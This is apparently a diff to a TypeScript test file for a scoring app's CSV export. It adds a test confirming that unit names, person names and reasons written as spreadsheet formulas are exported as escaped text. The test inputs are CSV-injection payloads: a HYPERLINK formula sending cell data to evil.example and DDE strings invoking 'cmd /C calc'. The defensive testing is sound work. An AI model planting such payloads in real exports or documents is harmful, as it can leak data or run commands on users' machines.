@@ -39,9 +39,13 @@ const LONG_NAME = 'Trung tâm Công nghệ thông tin và Truyền thông';
  * Two units, three people: KHTC half on time in planning, TTCNTT all on time. With the council's
  * decisions: a plan of TTCNTT's, overdue, is excused (and so counts nowhere), and KHTC gets 5 points.
  */
-function snapshot({ decisions = false } = {}): StoredSnapshot {
+function snapshot({
+  decisions = false,
+  points = 5,
+  names = {} as Partial<Record<'KHTC' | 'p1' | 'reason', string>>,
+} = {}): StoredSnapshot {
   const units = new Map<string, Unit>([
-    ['KHTC', { id: 'KHTC', name: 'Phòng Kế hoạch - Tài chính', parentId: null, headId: null }],
+    ['KHTC', { id: 'KHTC', name: names.KHTC ?? 'Phòng Kế hoạch - Tài chính', parentId: null, headId: null }],
     ['TTCNTT', { id: 'TTCNTT', name: LONG_NAME, parentId: null, headId: null }],
   ]);
   const person = (id: string, name: string, unitId: string): [string, Person] => [
@@ -49,7 +53,7 @@ function snapshot({ decisions = false } = {}): StoredSnapshot {
     { id, name, unitId, role: 'staff', email: null, active: true },
   ];
   const people = new Map<string, Person>([
-    person('p1', 'Nguyễn Thị Hoà', 'KHTC'),
+    person('p1', names.p1 ?? 'Nguyễn Thị Hoà', 'KHTC'),
     person('p2', 'Trần Văn Đức', 'TTCNTT'),
     person('p3', 'Lê Thị Ánh', 'TTCNTT'),
   ]);
@@ -81,10 +85,10 @@ function snapshot({ decisions = false } = {}): StoredSnapshot {
       phaseId: '2025-1',
       level: 'unit',
       subjectId: 'KHTC',
-      points: 5,
+      points,
       by: 'Hội đồng thi đua',
       at: parseInstant('2025-06-25T09:05:00+07:00')!,
-      reason: 'Hoàn thành nhiệm vụ đột xuất',
+      reason: names.reason ?? 'Hoàn thành nhiệm vụ đột xuất',
     });
   }
   const computed = computeScores(obligations, config.campaigns, people.values(), { withEvidence: true });
@@ -482,5 +486,37 @@ describe('CSV review export', () => {
       true,
     );
     expect(lines(csv.people)[1].startsWith('Hạng,Mã,Họ và tên,Đơn vị,Điểm,Xếp loại,')).toBe(true);
+  });
+
+  it('writes a name or reason a spreadsheet would run as a formula as text, and numbers as numbers', () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
+    const calc = "-2+3+cmd|' /C calc'!A0";
+    const csv = snapshotCsv(
+      snapshot({
+        decisions: true,
+        points: -5,
+        names: { KHTC: hyperlink, p1: calc, reason: "@SUM(1+1)*cmd|' /C calc'!A0" },
+      }),
+    );
+    const text = (b: Buffer) => b.toString('utf8');
+    // No field anywhere starts with a formula character once a spreadsheet has split the line;
+    // a field starting with "-" is a number.
+    for (const line of Object.values(csv).map(text).join('\r\n').split('\r\n')) {
+      for (const [, field] of line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)) {
+        const value = field.replace(/^"([\s\S]*)"$/, '$1').replace(/""/g, '"');
+        expect(value).not.toMatch(/^[=+@\t\r]/);
+        if (value.startsWith('-')) expect(value).toMatch(/^-\d+(\.\d+)?$/);
+      }
+    }
+    const units = text(csv.units).split('\r\n');
+    expect(units).toContain(
+      `2,KHTC,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",80.00,-5.00,75.00,Hoàn thành tốt,` +
+        '50.0% (1/2),100.0% (1/1),,,,,,,0.0%,90.0%',
+    );
+    expect(text(csv.people)).toContain(`,"'-2+3+cmd|' /C calc'!A0",`);
+    expect(text(csv.decisions)).toContain(
+      `Đơn vị,KHTC,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")",-5.00,Hội đồng thi đua,` +
+        `25/06/2025 09:05,"'@SUM(1+1)*cmd|' /C calc'!A0"`,
+    );
   });
 });
